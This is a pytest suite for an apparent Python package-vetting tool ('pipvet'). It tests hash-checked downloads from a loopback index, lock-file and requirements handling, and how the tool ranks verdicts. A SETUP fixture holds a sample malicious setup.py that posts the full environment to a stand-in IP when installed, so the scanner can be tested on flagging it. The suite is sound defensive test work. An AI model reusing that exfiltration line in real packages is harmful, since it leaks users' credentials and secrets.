"""Scan targets from a real loopback index: NAME==VERSION, NAME, locks and requirements files,
all hash-checked before anything is read."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import pytest

from pipvet.cli.main import main
from pipvet.core.errors import InputError, PolicyRefusal, UsageError
from pipvet.core.models import DistFile, FileHash
from pipvet.sources.scan_targets import Expansion, choose_files, expand_targets

SETUP = (
    "import os, urllib.request\nfrom setuptools import setup\n"
    "urllib.request.urlopen('http://198.51.100.9/c', data=repr(os.environ).encode())\n"
    "setup(name='demo')\n"
)


@pytest.fixture(autouse=True)
def _own_cache(tmp_path, monkeypatch):
    monkeypatch.setenv("PIPVET_CACHE_DIR", str(tmp_path / "cache"))


@pytest.fixture
def index(make_index):
    idx = make_index()
    idx.add_wheel("demo", "1.0")
    idx.add_sdist("demo", "1.0", files={"setup.py": SETUP})
    idx.add_wheel("demo", "1.0", tag="cp311-cp311-win_amd64")
    idx.add_wheel("demo", "2.0")
    idx.add_wheel("demo", "3.0b1")
    idx.add_wheel("other", "0.5")
    return idx


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_name_version_downloads_sdist_and_best_wheel_verified(index, tmp_path):
    out = expand_targets(["demo==1.0"], index_url=index.url, download_dir=tmp_path / "dl")
    names = sorted(i.path.name for i in out.inputs)
    assert names == ["demo-1.0-py3-none-any.whl", "demo-1.0.tar.gz"]
    for item in out.inputs:
        assert sha(item.path) == index.listed(item.path.name).sha256


def test_bare_name_takes_newest_final_release(index, tmp_path):
    out = expand_targets(["demo"], index_url=index.url, download_dir=tmp_path / "dl")
    assert [i.path.name for i in out.inputs] == ["demo-2.0-py3-none-any.whl"]


def test_tampered_download_is_refused_and_not_scanned(index, tmp_path, capsys):
    index.replace_bytes("demo-1.0.tar.gz", b"not what the index hashed")
    with pytest.raises(PolicyRefusal, match="does not match"):
        expand_targets(["demo==1.0"], index_url=index.url, download_dir=tmp_path / "dl")
    assert not (tmp_path / "dl" / "target-0" / "demo-1.0.tar.gz").exists()
    assert main(["scan", "--index-url", index.url, "demo==1.0"]) == 1
    assert "does not match" in capsys.readouterr().err


def test_unknown_version_and_bad_specs(index, tmp_path):
    with pytest.raises(InputError, match="no files"):
        expand_targets(["demo==9.9"], index_url=index.url, download_dir=tmp_path)
    with pytest.raises(UsageError, match="exact version"):
        expand_targets(["demo>=1"], index_url=index.url, download_dir=tmp_path)


def test_scan_name_version_json(index, capsys):
    code = main(["scan", "--format", "json", "--index-url", index.url, "demo==1.0"])
    doc = json.loads(capsys.readouterr().out)
    files = {a["filename"]: a for a in doc["artifacts"]}
    assert set(files) == {"demo-1.0-py3-none-any.whl", "demo-1.0.tar.gz"}
    assert files["demo-1.0.tar.gz"]["sha256"] == index.listed("demo-1.0.tar.gz").sha256
    assert files["demo-1.0.tar.gz"]["verdict"] != "clean"  # network + environment in setup.py
    rank = ["clean", "risky", "suspicious", "malicious"]
    assert code == int(any(rank.index(a["verdict"]) >= 2 for a in doc["artifacts"]))


def test_lock_files_checked_against_the_lock_hashes(index, tmp_path):
    wheel = index.listed("demo-1.0-py3-none-any.whl").sha256
    other = index.listed("other-0.5-py3-none-any.whl").sha256
    lock = tmp_path / "requirements.lock"
    lock.write_text(
        f"demo==1.0 --hash=sha256:{wheel}\nother==0.5 --hash=sha256:{other}\n", encoding="utf-8"
    )
    out = expand_targets([], locks=[lock], index_url=index.url, download_dir=tmp_path / "dl")
    # only files whose hash the lock records are candidates: the sdist is not locked here
    assert sorted(i.path.name for i in out.inputs) == [
        "demo-1.0-py3-none-any.whl",
        "other-0.5-py3-none-any.whl",
    ]
    # the index now serves other bytes under the locked name, with a matching index hash
    fn = "other-0.5-py3-none-any.whl"
    index.replace_bytes(fn, b"PK\x05\x06" + b"\0" * 18, update_hash=True)
    with pytest.raises(PolicyRefusal, match=r"requirements\.lock"):
        expand_targets([], locks=[lock], index_url=index.url, download_dir=tmp_path / "dl2")


def test_requirements_file_pinned_lines_only(index, tmp_path):
    req = tmp_path / "requirements.txt"
    req.write_text("# deps\ndemo==2.0\nother>=0.1\n-e ./local\n", encoding="utf-8")
    out = expand_targets([], requirements=[req], index_url=index.url, download_dir=tmp_path)
    assert [i.path.name for i in out.inputs] == ["demo-2.0-py3-none-any.whl"]
    assert any("other is not pinned" in n for n in out.notes)
    assert any("option line skipped" in n for n in out.notes)


def test_choose_files_prefers_platform_wheel_then_pure():
    def f(name: str) -> DistFile:
        return DistFile(name, f"http://x/{name}", (FileHash("sha256", "0" * 64),))

    files = [
        f("x-1.0-cp311-cp311-win_amd64.whl"),
        f("x-1.0-py3-none-any.whl"),
        f("x-1.0.zip"),
        f("x-1.0.tar.gz"),
    ]
    names = [c.filename for c in choose_files(files, None)]
    assert names == ["x-1.0.tar.gz", "x-1.0-py3-none-any.whl"]


def test_local_paths_and_missing_paths(tmp_path):
    with pytest.raises(InputError):
        expand_targets([str(tmp_path / "nope.tar.gz")], download_dir=tmp_path)
    empty = tmp_path / "empty"
    empty.mkdir()
    out = expand_targets([str(empty)], download_dir=tmp_path)
    assert isinstance(out, Expansion) and out.inputs[0].kind == "tree" and out.notes
